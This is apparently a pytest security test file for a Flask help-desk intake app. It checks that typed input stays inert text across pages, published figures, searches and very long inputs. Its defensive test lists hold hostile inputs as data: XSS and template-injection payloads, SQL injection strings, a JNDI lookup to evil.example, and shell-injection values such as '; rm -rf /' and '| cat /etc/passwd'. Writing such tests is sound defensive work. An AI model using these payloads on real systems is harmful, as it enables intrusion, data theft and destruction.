"""What strangers type is text wherever somebody reads it: no tag, no template, no query."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from desk_app import a_desk, a_number, press, sign_in
from every_field import CODES, TYPED, WORDS, a_full_form, the_only_row, typed_in
from flask.testing import FlaskClient
from guides_folder import SAMPLE, load
from intake_app import NOW, a_client, a_district, a_submission, hidden_in, rows_in, send
from werkzeug.test import TestResponse

from guidebook.model import Content, Period, Report
from guidebook.page_policy import IN_HEADER
from intake import create_app
from intake.accounts.accounts import Accounts
from intake.clock import stopped_clock
from intake.figures.report import ROWS
from intake.journal.journal import Journal

GUIDEBOOK = load(SAMPLE)

HOSTILE = (
    "<script>alert(1)</script>",
    '"onmouseover="alert(1)',
    "' onclick='alert(1)",
    "{{7777*7777}}",
    "{% endraw %}{{ config }}{# x",
    "</textarea><img src=x onerror=alert(1)>",
    "</title></option></select><svg/onload=alert(1)>",
    "<!--",
    "&lt;b&gt;&quot;&#39;",
    "javascript:alert(1)//",
    "${7777*7777}#{7777*7777}",
)
PLAIN = "甲乙丙"


class Skeleton(HTMLParser):
    """What a page is made of, and the texts in it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.texts += [value or "" for _, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}", ()))

    def handle_comment(self, _data: str) -> None:
        self.tags.append(("!--", ()))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def pages_with(folder: Path, text: str) -> Iterator[tuple[str, TestResponse]]:
    """Type a text wherever one can be typed; yield every page that shows it to anybody."""
    desk, words = a_desk(folder), dict.fromkeys(WORDS, text)
    form = a_full_form(**words)
    yield "form again", send(desk, form | dict.fromkeys(CODES, "?"))
    yield "codes again", send(desk, a_full_form(**dict.fromkeys(CODES, f"{text}\n")))
    looked_over = send(desk, form, "/requests/check")
    yield "check", looked_over
    yield "edit", desk.post("/requests/edit", data=hidden_in(looked_over.text))
    receipt = send(desk, form).headers["Location"]
    (number,) = {row.number for row in rows_in(folder / "queue")}
    yield "case", desk.get(f"/desk/{number}")
    yield "list", desk.get("/desk/")
    yield "search", desk.get("/desk/", query_string={"q": text})
    yield "status", desk.post("/requests/status", data={"number": text, "phone_tail": text})
    press(desk, number, "take")
    press(desk, number, "ask_more", question=text)
    yield "asked", desk.get(receipt)
    yield "supply again", supply(desk, receipt, text + "\0")
    supply(desk, receipt, text)
    for offer in ("note", "update"):
        press(desk, number, offer, text=text)
    yield "preview", press(desk, number, "answer", text=text, preview="1")
    yield "amiss", press(desk, number, "finish", text=f"{text}\0", outcome=text)
    press(desk, number, "finish", text=text, outcome="solved")
    yield "answered", desk.get(receipt)
    yield "closed", desk.get(f"/desk/{number}")
    yield "another post", desk.post(f"/desk/{number}/note", data={"text": text, "token": "x"})
    yield "refused", press(desk, number, "extend", reason=text, answer_by="2026-12-31")
    yield "taken down", desk.post("/desk/new", data=entry_of(desk) | form | {"phone": "?"})
    supervisor = sign_in(a_client(folder), folder, "supervisor", name=text)
    yield "staff", supervisor.get("/desk/staff")
    yield "figures", supervisor.get("/desk/figures")


def supply(client: FlaskClient, receipt: str, text: str) -> TestResponse:
    hidden = hidden_in(client.get(receipt).text)
    return client.post(f"{receipt}/supply", data={**hidden, "text": text})


def entry_of(desk: FlaskClient) -> dict[str, str]:
    return hidden_in(desk.get("/desk/new").text)


@pytest.mark.parametrize("text", HOSTILE)
def test_s43_whatever_is_typed_is_text_on_every_page(tmp_path: Path, text: str) -> None:
    plain, hostile = tmp_path / "plain", tmp_path / "hostile"
    for folder in (plain, hostile):
        folder.mkdir()

    seen = dict(pages_with(hostile, f"甲乙{text}"))
    for name, usual in pages_with(plain, PLAIN):
        page, expected = Skeleton(seen[name].text), Skeleton(usual.text)

        assert page.tags == expected.tags, name
        told = "\n".join(page.texts)
        assert (text in told) == (PLAIN in "\n".join(expected.texts)), name
        assert "60481729" not in told
        assert seen[name].headers["Content-Security-Policy"] == IN_HEADER


KINDS: tuple[type[Content], ...] = (Report, Period, *ROWS.values())
LABELS = {name for kind in KINDS for name in kind.model_fields}
NUMBER = re.compile(r"[0-9]+(-[0-9]{2})*|少于5|不公布|不统计")


def test_s44_nothing_that_is_typed_gets_into_what_is_published(tmp_path: Path) -> None:
    client = create_app(a_district(tmp_path)).test_client()
    for text in HOSTILE:
        sent = send(client, a_full_form(**dict.fromkeys(WORDS, text)))
        assert sent.status_code == 303
    journal = Journal(tmp_path / "queue")
    for n in range(6):  # of records that the guide has no more
        values = {"service": "<script>", "building": "=1+1", "subdistrict": "../x"}
        journal.submit(f"k{n}", NOW, a_submission(**values))

    tomorrow = a_district(tmp_path, clock=stopped_clock(NOW + timedelta(days=1)))
    told = create_app(tomorrow).test_cli_runner().invoke(args=["figures"])

    records = {*GUIDEBOOK.services, *GUIDEBOOK.buildings, *GUIDEBOOK.departments}
    words = set(re.findall(r"[^\s{}\[\],:]+", told.stdout.partition("\n")[2])) - {"-"}
    assert told.exit_code == 0
    assert {"cloud-tower", "bigger-office"} <= words
    assert {word for word in words - records - LABELS if not NUMBER.fullmatch(word)} == {"report"}


# ---------- queries ----------

QUERIES = (
    "'; DROP TABLE account; --",
    "' OR '1'='1",
    '" OR ""="',
    "%",
    "_",
    "*",
    "?",
    ".*",
    "云.科技",
    "[云河]",
    "(a+)+$",
    "\\",
    "${jndi:ldap://evil.example}",
    "$(touch x)",
    "`touch x`",
    "; rm -rf /",
    "| cat /etc/passwd",
    "../../etc/passwd",
    "-rf",
    "--help",
)


@pytest.mark.parametrize("text", QUERIES)
def test_s62_a_query_in_a_field_is_stored_as_text(tmp_path: Path, text: str) -> None:
    name = f"{text}云"  # a company has two signs at least

    answer = send(a_client(tmp_path), a_full_form(**dict.fromkeys(WORDS, name)))

    assert answer.status_code == 303
    assert typed_in(the_only_row(tmp_path)) == TYPED | dict.fromkeys(WORDS, name)


@pytest.mark.parametrize("text", QUERIES)
def test_s62_a_search_at_the_desk_looks_for_what_is_written_and_nothing_else(
    tmp_path: Path, text: str
) -> None:
    desk = sign_in(a_client(tmp_path), tmp_path, name=text)
    numbers = [a_number(desk, company=name) for name in ("云上科技", "河东饭店")]

    for query in ({"q": text}, {"service": text}, {"building": text}, {"department": text}):
        page = desk.get("/desk/", query_string=query)

        assert page.status_code == 200
        assert [number for number in numbers if f'"/desk/{number}"' in page.text] == []
    assert [found.name for found in Accounts(tmp_path / "queue").everybody()] == [text]


@pytest.mark.parametrize(
    "text",
    [
        *("(" * 30_000, "1 " * 15_000, "a@" * 15_000, "," * 30_000, "转" * 9_000, "<" * 30_000),
        *(
            "王" * 9_000,
            "e\u0301\u0316" * 6_000,
            "\u200b" * 9_000,
            " \u3000" * 6_000,
            "\n" * 20_000,
        ),
        *("91310115" * 4_000, "https://" * 4_000, "AB2C-" * 6_000, "火灾" * 5_000, "a.-" * 10_000),
    ],
    ids=lambda text: ascii(text[:4]),
)
def test_s62_no_text_of_the_greatest_length_keeps_the_program_busy(
    tmp_path: Path, text: str
) -> None:
    """A rule that took time by the square of a length would not end within this test."""
    client = a_client(tmp_path)

    for name in TYPED:
        assert send(client, a_full_form(**{name: text})).status_code in (303, 413, 422)
    form = {"number": text, "phone_tail": text}
    assert client.post("/requests/status", data=form).status_code in (413, 422)
